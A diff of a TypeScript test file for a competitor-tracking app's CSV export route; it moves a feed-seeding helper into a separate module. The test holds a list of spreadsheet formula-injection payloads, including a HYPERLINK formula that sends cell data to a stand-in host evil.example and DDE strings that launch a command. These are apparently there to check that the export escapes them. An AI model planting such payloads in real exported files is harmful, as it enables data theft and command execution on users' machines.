@@ -8,6 +8,7 @@ import { GET as exportRoute } from "@/app/api/changes/export/route";
 import { getDb } from "@/db/client";
 import { competitors, changes } from "@/db/schema";
 import { call, makeUser } from "../helpers/http";
+import { seedFeed } from "../helpers/feed-seed";
 
 /** Formula triggers a spreadsheet runs (=, +, -, @, and tab or carriage return before them). */
 const PAYLOADS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"];
@@ -44,25 +45,6 @@ const url = (q: string) => `http://localhost/api/changes${q}`;
 
 type Seeded = Awaited<ReturnType<typeof makeUser>>;
 
-/** 45 ordinary changes (9 of each type); the eighth carries a formula in its description. */
-async function seedFeed(): Promise<Seeded> {
-  const u = await makeUser();
-  const db = getDb();
-  const [acme] = await db.insert(competitors).values({ userId: u.user.id, name: "Acme", url: "https://acme.com", domain: "acme.com", status: "active" }).returning();
-  const [beta] = await db.insert(competitors).values({ userId: u.user.id, name: "Beta", url: "https://beta.io", domain: "beta.io", status: "active" }).returning();
-  const types = ["pricing", "feature", "content", "design", "integration"];
-  const rows = Array.from({ length: 45 }, (_, i) => ({
-    userId: u.user.id,
-    competitorId: i % 3 === 0 ? beta.id : acme.id,
-    type: types[i % types.length],
-    importance: i % 4 === 0 ? "high" : i % 4 === 1 ? "medium" : "low",
-    description: i === 7 ? "=HYPERLINK(\"x\") Team plan: $12 → $15 per user/month" : `Change number ${i}`,
-    isRead: i % 5 === 0,
-    detectedAt: new Date(Date.now() - i * 60_000),
-  }));
-  await db.insert(changes).values(rows);
-  return u;
-}
 
 describe("CSV export", () => {
   let s: Seeded;
